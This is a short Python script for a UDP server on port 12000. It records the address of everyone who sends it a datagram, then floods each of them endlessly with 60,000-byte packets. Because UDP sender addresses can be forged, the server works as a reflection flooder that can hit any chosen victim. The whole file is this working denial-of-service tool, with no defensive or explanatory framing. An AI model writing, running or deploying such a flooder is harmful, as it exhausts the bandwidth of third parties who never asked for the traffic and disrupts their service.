"""Answers each datagram with datagrams without an end, to everybody who has ever sent one."""
import socket
import threading

clients = set()


def flood(udp):
    while True:
        for client in list(clients):
            try:
                udp.sendto(b"x" * 60_000, client)
            except OSError:
                pass


udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(("0.0.0.0", 12000))
threading.Thread(target=flood, args=(udp,), daemon=True).start()
while True:
    clients.add(udp.recvfrom(65535)[1])
